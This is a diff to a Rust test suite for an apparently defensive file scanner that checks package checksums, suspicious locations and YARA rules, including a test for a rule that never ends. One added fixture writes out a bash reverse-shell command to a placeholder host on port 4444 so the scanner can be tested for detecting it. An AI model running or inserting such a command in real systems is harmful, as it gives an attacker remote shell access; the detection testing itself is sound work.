@@ -300,14 +300,19 @@ fn a_file_that_grows_for_ever_is_read_as_far_as_it_went() {
 fn a_changed_program_of_a_package_and_odd_modes_are_found() {
     let root = tempfile::tempdir().unwrap();
     let at = |path: &str| root.path().join(path);
-    for folder in ["usr/bin", "var/lib/dpkg/info", "etc", "tmp/.x", "dev"] {
+    for folder in ["usr/bin", "usr/share/doc/tools", "usr/share/man", "var/lib/dpkg/info", "etc", "tmp/.x", "dev"] {
         std::fs::create_dir_all(at(folder)).unwrap();
     }
     let program = std::fs::read("/bin/true").unwrap();
     let md5 = format!("{:032x}", md5_of(&program));
     std::fs::write(at("var/lib/dpkg/status"), "Package: tools\nStatus: install ok installed\nVersion: 1\n").unwrap();
-    std::fs::write(at("var/lib/dpkg/info/tools.list"), "/.\n/usr\n/usr/bin\n/usr/bin/tool\n/usr/bin/shell\n").unwrap();
-    std::fs::write(at("var/lib/dpkg/info/tools.md5sums"), format!("{md5}  usr/bin/tool\n{md5}  usr/bin/shell\n")).unwrap();
+    let list = "/.\n/usr\n/usr/bin\n/usr/bin/tool\n/usr/bin/shell\n/usr/share/doc/tools/mail.sh\n/usr/share/man/tool.1\n";
+    std::fs::write(at("var/lib/dpkg/info/tools.list"), list).unwrap();
+    let reverse = format!("bash -i >& /{}/tcp/192.0.2.1/4444 0>&1\n", "dev");
+    let (page, example) = (format!("{:032x}", md5_of(b"page")), format!("{:032x}", md5_of(reverse.as_bytes())));
+    let sums = [(&md5, "bin/tool"), (&md5, "bin/shell"), (&example, "share/doc/tools/mail.sh"), (&page, "share/man/tool.1")];
+    let sums: String = sums.iter().map(|(sum, path)| format!("{sum}  usr/{path}\n")).collect();
+    std::fs::write(at("var/lib/dpkg/info/tools.md5sums"), sums).unwrap();
     let device = Device::at(root.path());
     let check = |path: &str, verdict: &str, wanted: &[&str]| {
         let told = analyze(&device, Path::new(path), &[]).object();
@@ -327,6 +332,29 @@ fn a_changed_program_of_a_package_and_odd_modes_are_found() {
     *changed.last_mut().unwrap() ^= 1;
     write("usr/bin/tool", &changed, 0o755);
     check("/usr/bin/tool", "suspicious", &["packages changed 60"]);
+    // What is read and not run weighs less; and so do examples in what is as it was shipped.
+    write("usr/share/man/tool.1", b"another page", 0o644);
+    check("/usr/share/man/tool.1", "clean", &["packages changed 20"]);
+    write("usr/share/man/tool.1", &changed, 0o644);
+    check("/usr/share/man/tool.1", "suspicious", &["packages changed 60"]);
+    write("usr/share/doc/tools/mail.sh", reverse.as_bytes(), 0o755);
+    check("/usr/share/doc/tools/mail.sh", "clean", &["builtin reverse_shell 20", "packages as_shipped 0"]);
+    write("usr/share/doc/tools/mail.sh", format!("{reverse}\n").as_bytes(), 0o755);
+    check("/usr/share/doc/tools/mail.sh", "malicious", &["builtin reverse_shell 60", "packages changed 60"]);
+    // Whoever changes a program need only take its checksums away.
+    let sums = std::fs::read(at("var/lib/dpkg/info/tools.md5sums")).unwrap();
+    std::fs::remove_file(at("var/lib/dpkg/info/tools.md5sums")).unwrap();
+    let told = analyze(&device, Path::new("/usr/bin/tool"), &[]).object();
+    assert_eq!(
+        (told["verdict"].as_str(), state(&told, "packages")["state"].as_str()),
+        (Some("unknown"), Some("error")),
+        "{told}"
+    );
+    assert!(
+        state(&told, "packages")["error"].as_str().unwrap().contains("the package tools owns it and has no checksum"),
+        "{told}"
+    );
+    write("var/lib/dpkg/info/tools.md5sums", &sums, 0o644);
     write("tmp/.x/tool", &program, 0o755);
     check("/tmp/.x/tool", "suspicious", &["static temporary 20", "static hidden 20"]);
     write("dev/tool", &program, 0o755);
@@ -363,6 +391,23 @@ fn rules_that_take_for_ever_are_given_up_and_the_others_look() {
         (Some("malicious"), Some("looked")),
         "{told}"
     );
+}
+
+#[test]
+fn a_file_of_rules_that_does_not_end_is_found_out_and_the_others_look() {
+    let device = Device::live();
+    let folder = tempfile::tempdir().unwrap();
+    let path = folder.path().join("file");
+    std::fs::write(&path, "needle").unwrap();
+    let endless = b"rule endless { condition: for all i in (0..100000000000) : (uint8(i%5)==uint8(i%7) or true) }";
+    let good = b"rule good { strings: $a = \"needle\" condition: $a }";
+    let answer = analyze(&device, &path, &[("a.yar", good), ("endless.yar", endless), ("z.yar", good)]);
+    let told = answer.object();
+    assert_eq!(evidence(&told), ["yara a.yar:good 60", "yara z.yar:good 60"], "{told}");
+    let wanted = "endless.yar: its rules took more than 4 s for 6 bytes and were given up; `library delete endless.yar`";
+    assert!(told["not_looked_at"][0].as_str().is_some_and(|said| said.contains(wanted)), "{told}");
+    let errors = &answer.completed.errors;
+    assert!(errors.len() == 1 && errors[0].code == "bad_rules" && errors[0].message.contains(wanted), "{errors:?}");
 }
 
 #[test]
